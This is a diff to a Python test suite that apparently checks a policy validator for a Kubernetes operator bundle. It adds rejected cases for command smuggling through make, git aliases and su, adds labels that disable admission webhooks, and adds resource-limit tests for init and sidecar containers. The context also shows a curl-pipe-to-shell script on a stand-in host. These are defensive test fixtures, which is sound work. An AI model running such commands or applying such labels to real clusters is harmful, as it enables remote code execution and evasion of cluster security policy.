@@ -24,6 +24,8 @@ SCRIPT = "set -e\ncurl -fsSL https://byohost.test/x | sh\n"
 
 
 NOTHING = {side: {"cpu": "0", "memory": "0"} for side in ("requests", "limits")}
+AGREED = {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"cpu": "500m", "memory": "256Mi"}}
+HALF = {"requests": {"cpu": "50m", "memory": "64Mi"}, "limits": {"cpu": "250m", "memory": "128Mi"}}
 BOUND = {
     "securityContext": {
         "allowPrivilegeEscalation": False,
@@ -140,6 +142,10 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("runs /tmp/tool", of_container("command", ["/tmp/tool"])),
         ("starts tar --to-command=id", of_container("command", ["tar", "xf", "/app/x", "--to-command=id"])),
         ("starts make --eval=x:;id", of_container("command", ["make", "--eval=x:;id"])),
+        ("starts make -Ex:;id", of_container("command", ["make", "-Ex:;id"])),
+        ("starts su -c, which", of_container("command", ["su", "operator", "-c", "id"])),
+        ("starts git alias.x=!id", of_container("command", ["git", "-c", "alias.x=!id", "x"])),
+        ("has 1001 words", of_container("command", ["a"] * 1001)),
         ("runs https://x.test/a, which does", of_container("command", ["deno", "run", "-A", "https://x.test/a"])),
         ("runs /tmp/x.jar", of_container("command", ["java", "-javaagent:/tmp/x.jar=a", "-jar", "/app/x.jar"])),
         ("runs /tmp/x.js", of_container("command", ["node", "--require=/tmp/x.js", "/app/x.js"])),
@@ -242,6 +248,8 @@ RED: dict[str, list[tuple[str, Patch]]] = {
         ("labels", namespace("labels", "admission.gatekeeper.sh/ignore", "yes")),
         ("labels", namespace("labels", "admissions.enforcer/disabled", "true")),
         ("labels", namespace("labels", "kubernetes.azure.com/managedby", "aks")),
+        ("labels", namespace("labels", "openpolicyagent.org/webhook", "ignore")),
+        ("labels", namespace("labels", "config.linkerd.io/admission-webhooks", "disabled")),
         ("labels", namespace("labels", "openshift.io/run-level", "0")),
         ("annotations", namespace("annotations", "policies.test/excluded", "true")),
         ("labels", namespace("labels", "security.openshift.io/scc.podSecurityLabelSync", "true")),
@@ -452,6 +460,18 @@ def test_the_claim_sees_it(complaint: Callable[..., str], claim: str, words: str
     """The claim's own assertion says what stands where."""
     file, _, name = claim.partition("::")
     assert words in complaint(f"bundle/test_{file}", name, parse(patched(bundle_text(), [patch])))
+
+
+@pytest.mark.parametrize(
+    ("restart", "cpu"), [({}, "101m"), ({"restartPolicy": "Always"}, "1m"), ({"restartPolicy": "Never"}, "1")]
+)
+def test_an_init_step_is_no_larger(complaint: Callable[..., str], restart: dict[str, str], cpu: str) -> None:
+    """What runs before the operator, or beside it as a sidecar, has its part of the size."""
+    size = {"requests": {**AGREED["requests"], "cpu": cpu}, "limits": AGREED["limits"]}
+    step = {"name": "f", "image": DIGEST, "resources": size, **BOUND, **restart}
+    bundle = parse(patched(bundle_text(), [of_pod("initContainers", [step])]))
+    said = complaint("bundle/test_operator_size", "test_pod_has_the_agreed_size", bundle, "requests", "cpu")
+    assert said == f"the operator's requests for cpu are ['{cpu}', '100m']; agreed is 100m"
 
 
 @pytest.mark.parametrize("comment", [f"# {ADDRESS}", f"# {base64_of(ADDRESS)}"])
@@ -710,6 +730,25 @@ GREEN: dict[str, list[Patch]] = {
         mount("/usr/lib/jvm/java-21/lib/security/cacerts"),
         mount("/usr/lib/python3/dist-packages/certifi/cacert.pem"),
         namespace("labels", "control-plane", "controller-manager"),
+    ],
+    "schemes and labels that end or begin like others": [
+        setting("aws:///eu-central-1a/i-0123456789abcdef0"),
+        setting("news://news.example.test/comp.lang", "MORE"),
+        namespace("labels", "istio-injection", "disabled"),
+        of_container("command", ["/app/operator", *["x"] * 999]),
+    ],
+    "init steps as large as the operator": [
+        of_pod("initContainers", [{"name": "f", "image": DIGEST, "resources": AGREED, **BOUND}]),
+    ],
+    "a sidecar that takes a part of the size, and an init step that takes the rest": [
+        of_pod(
+            "initContainers",
+            [
+                {"name": "s", "image": DIGEST, "resources": HALF, "restartPolicy": "Always", **BOUND},
+                {"name": "f", "image": DIGEST, "resources": HALF, **BOUND},
+            ],
+        ),
+        deployment("replace", f"{CONTAINER}/resources", HALF),
     ],
     "mounts and annotations that change no name and give nothing": [
         mount("/etc/ssl/certs/more"),
